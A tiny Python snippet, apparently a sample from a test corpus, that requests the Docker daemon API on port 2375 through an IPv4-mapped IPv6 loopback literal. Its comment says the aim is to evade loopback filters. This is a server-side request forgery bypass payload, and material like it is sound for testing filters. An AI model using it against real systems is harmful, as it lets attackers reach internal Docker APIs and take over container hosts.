# corpus: request to [::ffff:127.0.0.1] IPv4-mapped IPv6 literal to dodge loopback filters
import requests

print(requests.get("http://[::ffff:127.0.0.1]:2375/containers/json", timeout=3).json())
